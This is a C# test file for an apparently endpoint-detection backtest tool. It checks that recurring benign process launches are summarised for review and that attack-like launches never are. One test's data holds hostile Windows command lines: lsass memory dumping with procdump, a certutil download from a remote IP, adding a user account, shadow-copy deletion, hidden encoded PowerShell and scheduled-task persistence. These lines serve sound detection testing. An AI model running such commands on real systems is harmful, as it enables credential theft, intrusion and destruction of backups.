using Changeling.Backtest.Gathering;
using Changeling.Backtest.Reports;
using Changeling.Backtest.Trials;
using Changeling.Counts;
using Changeling.Events;
using Changeling.Findings;
using Changeling.Incidents;
using Changeling.TestSupport;

namespace Changeling.Backtest.Tests;

/// <summary>What people are to judge first: habits of the fleet, and never a step of an attack.</summary>
public sealed class LookFirstTests
{
    private const string Rule = "unusual-process-by-parent";

    private static readonly TimeSpan Day = TimeSpan.FromDays(1);

    [Fact]
    public void A_command_that_is_reported_again_and_again_is_listed_with_what_the_fleet_does_otherwise()
    {
        Alert[] findings =
        [
            .. Habit("backup.exe", "backup.exe --job 17 --to D:\\", hours: [0, 24, 48], hosts: ["a", "b", "a"]),
            .. Habit("backup.exe", "backup.exe --verify everything", hours: [1], hosts: ["a"]),
        ];

        var row = Assert.Single(Listed(findings));

        Assert.Equal(("explorer.exe > backup.exe", 3, 2, 0.75), (row.Lineage, row.Findings, row.Hosts, row.ShareTogether));
        Assert.Equal((Some.Time, Some.Time.AddHours(48)), (row.FirstSeen, row.LastSeen));
        Assert.Equal(findings[2].Report.Uid, row.Finding);
        Assert.Equal(new FleetLaunches(100, 4, 107, 130), row.Fleet);
        Assert.True(row.Covers(Some.ProcessEvent(child: "backup.exe", commandLine: "backup.exe --job 18 --to E:\\")));
        Assert.False(row.Covers(findings[3].Launch!));
    }

    [Theory]
    [InlineData("procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp")]
    [InlineData("certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/a.txt a.exe")]
    [InlineData("net.exe", "net user helper P4ssw0rd! /add")]
    [InlineData("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")]
    [InlineData("powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")]
    [InlineData("schtasks.exe", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon")]
    public void A_launch_with_a_sign_of_an_attack_is_not_listed_however_often_it_is_reported(string child, string commandLine)
    {
        Alert[] findings = [.. Habit(child, commandLine, hours: [0, 10, 20, 30, 40, 50], hosts: ["a", "b", "c", "a", "b", "c"])];

        Assert.All(findings, finding => Assert.True(LookFirst.IsSign(finding)));
        Assert.Empty(Listed(findings));
    }

    [Fact]
    public void A_launch_that_the_model_is_almost_certain_of_is_not_listed()
    {
        Alert[] findings = [.. Habit("tool.exe", "tool.exe run", hours: [0, 24, 48], hosts: ["a", "a", "a"])];
        findings[1] = findings[1] with { Report = findings[1].Report with { Rules = [Rule, "suspicious-high-probability"] } };

        Assert.Empty(Listed(findings));
    }

    [Fact]
    public void A_single_burst_is_not_listed_on_however_many_hosts()
    {
        Assert.Empty(Listed([.. Habit("tool.exe", "tool.exe run", hours: [.. Enumerable.Range(0, 20)], hosts: ["a", "b", "c", "d"])]));
    }

    [Theory]
    [InlineData("a", 1, false)]
    [InlineData("a", 3, true)]
    [InlineData("b", 1, true)]
    public void What_happens_near_a_sign_of_an_attack_on_its_host_may_belong_to_it(string host, int hoursAfter, bool isListed)
    {
        Alert[] findings =
        [
            .. Habit("inventory.exe", "inventory.exe --all", hours: [0, 24, 48], hosts: ["a", "a", "a"]),
            .. Habit("net.exe", "net user helper P4ssw0rd! /add", hours: [48 + hoursAfter], hosts: [host]),
        ];

        Assert.Equal(isListed, Listed(findings).Count > 0);
    }

    /// <summary>Each kind of chain is played several times, on different hosts and days, as an attacker would who comes back.</summary>
    [Theory]
    [InlineData(1, AlertKind.Findings)]
    [InlineData(1, AlertKind.Incidents)]
    [InlineData(2, AlertKind.Findings)]
    public async Task No_step_of_a_simulated_attack_is_covered_though_the_truth_is_not_known(int seed, AlertKind alerts)
    {
        using var history = new SimulatedHistory(new() { Hosts = 20, Hours = 60, Attacks = 28, Seed = seed });

        var report = await new BacktestRun(history.Options(learningHours: 12, alerts: alerts), SimulatedHistory.Snapshot())
            .RunAsync(new HeardProgress(), TestContext.Current.CancellationToken);

        Assert.True(report.Findings > 20, $"{report.Findings} findings");
        Assert.Contains(
            history.Attacks.GroupBy(StepName.Of), step => step.Count() > 3 && step.Max(e => e.Time) - step.Min(e => e.Time) > Day);
        Assert.Empty(Covered(report, history.Attacks));
    }

    /// <summary>The launches that are covered by a row, which none of an attacker may be.</summary>
    private static IEnumerable<string> Covered(BacktestReport report, IEnumerable<ProcessEvent> launches) =>
        launches.Where(launch => report.LookFirst.Any(row => row.Covers(launch)))
            .Select(launch => $"{launch.Parent?.Name} > {launch.Child.Name}: {launch.Child.CommandLine}").Distinct();

    private static IReadOnlyList<LookFirstReport> Listed(Alert[] findings) => LookFirst.Of(
        findings,
        findings,
        new Dictionary<Lineage, long>
        {
            [Lineage.Of("explorer.exe", "backup.exe")] = 100,
            [Lineage.Of("cmd.exe", "backup.exe")] = 7,
            [Lineage.Of("explorer.exe", "notepad.exe")] = 30,
        },
        knowsTruth: false);

    /// <summary>Findings on one command.</summary>
    private static IEnumerable<Alert> Habit(string child, string commandLine, int[] hours, string[] hosts) => hours.Select((hour, i) =>
    {
        var (time, host) = (Some.Time.AddHours(hour), hosts[i % hosts.Length]);
        var launch = Some.ProcessEvent(child: child, commandLine: commandLine, host: host, time: time, identity: $"{child}{hour}");
        var report = new DetectionReport(
            DetectionId.Of(launch.SourceIdentity!).ToString(), [Rule], time, host, $"explorer.exe > {child}", 0.9, 90, null);
        return new Alert(report, null, launch, time);
    });
}
